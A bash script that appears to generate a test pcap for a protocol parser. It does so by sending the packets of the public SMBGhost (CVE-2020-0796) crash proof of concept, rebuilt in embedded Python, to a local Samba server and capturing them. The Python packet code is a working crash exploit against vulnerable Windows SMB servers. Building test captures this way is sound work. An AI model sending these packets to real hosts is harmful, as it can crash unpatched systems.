#!/bin/bash
# smbghost-offset.pcap: the packets of maxpl0it's published CVE-2020-0796 ("SMBGhost") crash
# proof of concept (github.com/maxpl0it/Unauthenticated-CVE-2020-0796-PoC, crash.py), sent to
# a real Samba 4.17 and captured on lo. The client offers SMB 3.1.1 with LZNT1, LZ77 and
# LZ77+Huffman compression, then sends a COMPRESSION_TRANSFORM_HEADER with
# OriginalCompressedSegmentSize 50, CompressionAlgorithm LZNT1 and Offset 0xFFFFFFFF (their
# sum overflows 32 bits: the bug), followed by 50 bytes 'A'. Samba does not implement
# compression and drops the connection. Needs root, samba and tcpdump.
#
#   sudo bash tests/data/compressed/make-smbghost.sh [ADDR]    # default 127.0.0.8
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
root=$(cd "$here/../../.." && pwd)
addr=${1:-127.0.0.8}
work=$(mktemp -d)
trap 'kill "$dump" 2>/dev/null || true; bash "$root/scripts/samba-server.sh" stop "$work/samba" || true; rm -rf "$work"' EXIT

bash "$root/scripts/samba-server.sh" start "$work/samba" "$addr" "server max protocol = SMB3_11"
tcpdump -i lo -s 0 -U -w "$work/out.pcap" "host $addr and tcp port 445" 2>/dev/null &
dump=$!
sleep 1
python3 - "$addr" <<'PY'
import socket, struct, sys

def nbss(msg):
    return struct.pack(">I", len(msg)) + msg

# SMB2 header (MS-SMB2 2.2.1): NEGOTIATE, MessageId 0, as in the proof of concept.
header = b"\xfeSMB" + struct.pack("<HHHHHHIIQIIQ16s", 64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, b"")
dialects = [0x0202, 0x0210, 0x0222, 0x0224, 0x0300, 0x0302, 0x0310, 0x0311]
negotiate = struct.pack("<HHHHI16sIHH", 36, len(dialects), 0, 0, 0x7F, b"\x01\x02\xab\xcd" * 4,
                        0x78, 2, 0)
negotiate += struct.pack(f"<{len(dialects)}H", *dialects) + b"\0" * 4
# PREAUTH_INTEGRITY_CAPABILITIES: SHA-512, 32-byte zero salt.
negotiate += struct.pack("<HHIHHH", 1, 38, 0, 1, 32, 1) + b"\0" * 32 + b"\0" * 2
# COMPRESSION_CAPABILITIES: chained, LZNT1 + LZ77 + LZ77+Huffman.
negotiate += struct.pack("<HHIHHIHHH", 3, 14, 0, 3, 0, 1, 1, 2, 3) + b"\0" * 8
data = b"A" * 50
ghost = b"\xfcSMB" + struct.pack("<IHHI", len(data), 1, 0, 0xFFFFFFFF) + data

s = socket.create_connection((sys.argv[1], 445), timeout=3)
s.sendall(nbss(header + negotiate))
s.recv(3000)
s.sendall(nbss(ghost))
try:
    s.recv(1000)
except OSError:
    pass
s.close()
PY
sleep 1
kill "$dump"; wait "$dump" 2>/dev/null || true
cp "$work/out.pcap" "$here/smbghost-offset.pcap"
tshark -r "$here/smbghost-offset.pcap" 2>/dev/null
